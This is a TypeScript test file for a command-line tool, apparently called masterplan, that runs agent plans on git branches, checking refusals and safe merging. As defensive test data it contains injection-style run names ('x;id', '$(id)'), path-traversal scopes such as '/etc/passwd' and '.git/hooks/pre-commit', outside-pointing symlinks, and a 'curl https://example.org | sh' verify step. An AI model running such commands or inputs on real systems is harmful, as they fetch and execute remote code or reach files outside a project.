import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { bytesOf, listing } from '../rig/bytes.ts';
import { expectOrder } from '../rig/order.ts';
import { planOf } from '../rig/plan.ts';
import type { Ended } from '../rig/program.ts';
import { project, type World } from '../rig/world.ts';

/** Refused: in words, with a hint, with nothing on standard output, and nothing changed. */
async function refuses(world: World, args: readonly string[], words: RegExp, hint: RegExp, code = 1): Promise<void> {
  const before = bytesOf(world);
  const ended: Ended = await world.masterplan(...args);
  expect([ended.code, ended.stdout], ended.stderr).toEqual([code, '']);
  const [message = '', ...rest] = ended.stderr
    .trimEnd()
    .split('\n')
    .filter((line) => line.startsWith('masterplan: ') || line.startsWith('  '));
  expect(message).toMatch(words);
  expect(rest.join('\n')).toMatch(hint);
  expect(bytesOf(world)).toEqual(before);
  // The same for a program.
  const spoken = await world.json<{ error: { message: string; hint: string; exit: number } }>(args, code);
  expect(spoken.error.message).toMatch(words);
  expect(spoken.error.exit).toBe(code);
}

describe('a new run is refused', () => {
  test('with uncommitted changes, unless they are left out on purpose', async () => {
    const world = await project();
    world.write('README.md', 'Changed.\n');
    await refuses(world, ['run', 'demo.md', '--yes'], /README\.md/, /--allow-dirty/);
    world.everyoneWorks();
    expect((await world.runs(['--yes', '--allow-dirty'])).code).toBe(3);
    expect(world.read('README.md')).toBe('Changed.\n');
    expect(world.files()['README.md']).toBe('A project.');
  });

  test('without a git identity', async () => {
    const world = await project();
    world.git('config', '--unset', 'user.name');
    world.git('config', '--unset', 'user.email');
    await refuses(world, ['run', 'demo.md', '--yes'], /who you are/, /git config --global user\.name/);
  });

  test('on a detached HEAD, but not with --base', async () => {
    const world = await project();
    world.git('checkout', '--quiet', '--detach');
    await refuses(world, ['run', 'demo.md', '--yes'], /detached/, /--base/);
    world.everyoneWorks();
    expect((await world.runs(['--yes', '--base', 'main', '--finish', 'merge'])).code).toBe(0);
    expect(world.files('main')['t1.txt']).toBe('T1');
  });

  test('before the first commit', async () => {
    const world = await project();
    rmSync(world.path('.git'), { recursive: true });
    world.git('init', '--quiet');
    world.git('config', 'user.name', 'Ada');
    world.git('config', 'user.email', 'ada@example.org');
    await refuses(world, ['run', 'demo.md', '--yes'], /no commit yet/, /git commit/);
  });

  test('outside of a repository', async () => {
    const world = await project();
    rmSync(world.path('.git'), { recursive: true });
    await refuses(world, ['run', 'demo.md', '--yes'], /not in a git repository/, /git init/);
    await refuses(world, ['status'], /not in a git repository/, /git init/);
  });

  test('when its branch exists already', async () => {
    const world = await project();
    world.git('branch', 'masterplan/demo');
    await refuses(world, ['run', 'demo.md', '--yes'], /masterplan\/demo exists already/, /--slug/);
  });

  test.each(['masterplan', 'masterplan/demo/old'])('when git cannot make its branch beside %s', async (branch) => {
    const world = await project();
    world.git('branch', branch);
    await refuses(world, ['run', 'demo.md', '--yes'], new RegExp(`beside the branch ${branch}`), /git branch -m/);
  });

  test('without an agent, and with a configuration that is not valid', async () => {
    const world = await project();
    world.write('.masterplan.yaml', 'finish: keep\n');
    await refuses(world, ['run', 'demo.md', '--yes'], /no agent is configured/, /agents:/, 2);
    world.write('.masterplan.yaml', 'agents:\n  one: {command: []}\n');
    await refuses(
      world,
      ['run', 'demo.md', '--yes'],
      /\.masterplan\.yaml:2:\d+: .*needs a program/,
      /correct the file/,
      2,
    );
    world.write('.masterplan.yaml', 'agents: {one: [\n');
    await refuses(world, ['run', 'demo.md', '--yes'], /\.masterplan\.yaml:\d/, /correct the file/, 2);
  });

  test('of a plan that is not there', async () => {
    const world = await project();
    await refuses(world, ['run', 'nowhere.md', '--yes'], /no file .*nowhere\.md/, /check the path/, 2);
    await refuses(world, ['run', 'nothing', '--yes'], /no run "nothing"/, /masterplan run/, 2);
  });
});

describe('hostile names', () => {
  test.each([
    '../../x',
    'a/../b',
    '-rf',
    '.git',
    'x.lock',
    'a..b',
    'Über',
    'a b',
    'x\u001b[31m',
    'x\ny',
    'x;id',
    '$(id)',
    '@{u}',
    'a'.repeat(65),
    '',
  ])('the name of a run: %j', async (slug) => {
    const world = await project();
    const before = bytesOf(world);
    const ended = await world.masterplan('run', 'demo.md', '--yes', `--slug=${slug}`);
    expect(ended.code).toBe(2);
    expect(ended.stderr).not.toBe('');
    expect(ended.stderr).not.toMatch(/\u001b\[31m|at .*\.mjs:\d/);
    expect(bytesOf(world)).toEqual(before);
  });

  test.each([
    '/etc/passwd',
    '../outside.txt',
    'a/../../b',
    '.git/hooks/pre-commit',
    '.GIT/config',
    'src/.git/x',
    '.masterplan/x',
    ':(exclude)x',
  ])('a path in a scope: %j', async (path) => {
    const world = await project({ plan: [{ id: 'T1', files: [path], verify: ['true'] }] });
    const before = bytesOf(world);
    const ended = await world.runs();
    expect([ended.code, ended.stderr === '']).toEqual([4, false]);
    expect(bytesOf(world)).toEqual(before);
  });

  test.each([
    '## T1: One\n\n**Files:** `a`\n\n**Verify:** `true`\n\n## T1: Two\n\n**Files:** `b`\n\n**Verify:** `true`',
    '## T1: One\n\n**Files:** `a`\n\n**Needs:** T9\n\n**Verify:** `true`',
    '## T1: One\n\n**Needs:** T2\n\n## T2: Two\n\n**Needs:** T1',
    'No plan at all.',
    '',
  ])('a plan that is none: %j', async (text) => {
    const world = await project({ plan: `# Plan: Bad\n\n${text}\n` });
    const before = bytesOf(world);
    const ended = await world.runs();
    expect([ended.code, ended.stderr === '']).toEqual([4, false]);
    const spoken = await world.json<{ error: { hint: string } }>(['run', 'demo.md', '--yes'], 4);
    expect(spoken.error.hint).not.toBe('');
    expect(bytesOf(world)).toEqual(before);
  });
});

describe('a plan that was edited', () => {
  test('after its approval: the run does not go on with it', async () => {
    const world = await project({ config: { attempts: 1 } });
    world.puppets.follow((agent) => agent.done({ status: 'failed' }));
    expect((await world.runs()).code).toBe(1);
    const other = planOf([{ id: 'T1', verify: ['curl https://example.org | sh'] }]);
    world.write('demo.md', other);
    await refuses(
      world,
      ['run', 'demo.md', '--yes'],
      /demo\.md was edited after the run "demo" was approved/,
      /masterplan amend demo/,
    );
    world.write('demo.md', planOf([{ id: 'T1' }]));
    world.write(world.bundle('plan.md'), other);
    await refuses(world, ['run', 'demo'], /plan\.md was edited/, /put the text back/);
    expect(await world.json(['validate'], 4)).toMatchObject({
      runs: [{ findings: [{ message: expect.stringContaining('edited') }] }],
    });
  });

  test('between being shown and being approved: the approval is refused', async () => {
    const world = await project();
    expect((await world.runs([])).code).toBe(3);
    world.write(world.bundle('plan.md'), planOf([{ id: 'T1', verify: ['false'] }]));
    await refuses(world, ['approve'], /edited/, /--slug/);
    expect(world.eventsOf('plan_approved')).toEqual([]);
  });
});

describe('planted links are not followed', () => {
  async function planted(): Promise<{ world: World; elsewhere: string }> {
    const world = await project();
    const elsewhere = mkdtempSync(join(world.directory, 'elsewhere-'));
    writeFileSync(join(elsewhere, 'victim'), 'precious');
    return { world, elsewhere };
  }
  test.each([
    ['docs'],
    ['docs/masterplan'],
    ['docs/masterplan/demo'],
    ['.masterplan'],
    ['.masterplan/runs'],
    ['.masterplan/runs/demo'],
    ['.masterplan/worktrees'],
  ])('%s', async (path) => {
    const { world, elsewhere } = await planted();
    mkdirSync(join(world.path(path), '..'), { recursive: true });
    symlinkSync(elsewhere, world.path(path));
    const before = listing(elsewhere);
    await refuses(world, ['run', 'demo.md', '--yes'], /symbolic link/, /move it away/);
    expect(listing(elsewhere)).toEqual(before);
  });

  test.each([
    ['docs/masterplan/demo/events.jsonl'],
    ['docs/masterplan/demo/state.yml'],
    ['docs/masterplan/demo/plan.md'],
    ['.masterplan/runs/demo/snapshot.json'],
    ['.masterplan/runs/demo/lock'],
    ['.masterplan/queue.git'],
  ])('%s', async (path) => {
    const { world, elsewhere } = await planted();
    const isDirectory = /lock$|git$/.test(path);
    mkdirSync(join(world.path(path), '..'), { recursive: true });
    symlinkSync(isDirectory ? elsewhere : join(elsewhere, 'victim'), world.path(path));
    world.everyoneWorks();
    await world.runs();
    // Refused or put out of the way: what it pointed at is as it was.
    expect(readFileSync(join(elsewhere, 'victim'), 'utf8')).toBe('precious');
    expect(Object.keys(listing(elsewhere))).toEqual(['victim']);
  });
});

describe('the base branch at the end', () => {
  async function finished(files: Record<string, string> = {}): Promise<World> {
    const world = await project({ files });
    world.everyoneWorks();
    expect((await world.runs()).code).toBe(3);
    return world;
  }

  test('moved on without a conflict: merged, verified together', async () => {
    const world = await finished();
    world.write('other.txt', 'from elsewhere\n');
    const tip = world.commit('Meanwhile');
    expect((await world.masterplan('approve', 'demo', '--finish', 'merge')).code).toBe(0);
    expect(world.files('main')).toMatchObject({ 't1.txt': 'T1', 'other.txt': 'from elsewhere' });
    expect(world.git('log', '-1', '--format=%P', 'main').split(' ')[0]).toBe(tip);
    await expectOrder(world);
  });

  test('moved on with a conflict: refused, the branch is kept and nothing moved', async () => {
    const world = await finished();
    world.write('t1.txt', 'theirs\n');
    const tip = world.commit('Meanwhile');
    const branch = world.git('rev-parse', 'masterplan/demo');
    const ended = await world.masterplan('approve', 'demo', '--finish', 'merge');
    expect(ended.code).toBe(3);
    expect(world.eventsOf('finish_refused')).toMatchObject([
      { choice: 'merge', reason: expect.stringContaining('t1.txt'), hint: expect.stringContaining('--finish keep') },
    ]);
    expect([world.git('rev-parse', 'main'), world.git('rev-parse', 'masterplan/demo')]).toEqual([tip, branch]);
    expect(world.read('t1.txt')).toBe('theirs\n');
    expect((await world.masterplan('approve', 'demo', '--finish', 'keep')).code).toBe(0);
    await expectOrder(world);
  });

  test('checked out with changes that the merge would touch: refused, nothing lost', async () => {
    const world = await project({ plan: [{ id: 'T1', files: ['README.md'], verify: ['grep -q T1 README.md'] }] });
    world.puppets.follow(async (agent) => {
      await agent.write('README.md', 'T1\n');
      await agent.done();
    });
    expect((await world.runs()).code).toBe(3);
    const tip = world.git('rev-parse', 'main');
    world.write('README.md', 'My own unsaved words.\n');
    expect((await world.masterplan('approve', 'demo', '--finish', 'merge')).code).toBe(3);
    expect(world.eventsOf('finish_refused')).toMatchObject([{ reason: expect.stringContaining('README.md') }]);
    expect([world.git('rev-parse', 'main'), world.read('README.md')]).toEqual([tip, 'My own unsaved words.\n']);
    world.git('checkout', '--', 'README.md');
    expect((await world.masterplan('approve', 'demo', '--finish', 'merge')).code).toBe(0);
    expect(world.read('README.md')).toBe('T1\n');
    await expectOrder(world);
  });

  test('with an untracked file in the way: refused, the file stays', async () => {
    const world = await finished();
    world.write('t1.txt', 'mine, never committed\n');
    expect((await world.masterplan('approve', 'demo', '--finish', 'merge')).code).toBe(3);
    expect(world.read('t1.txt')).toBe('mine, never committed\n');
    expect(world.eventsOf('finish_refused')).toHaveLength(1);
  });
});
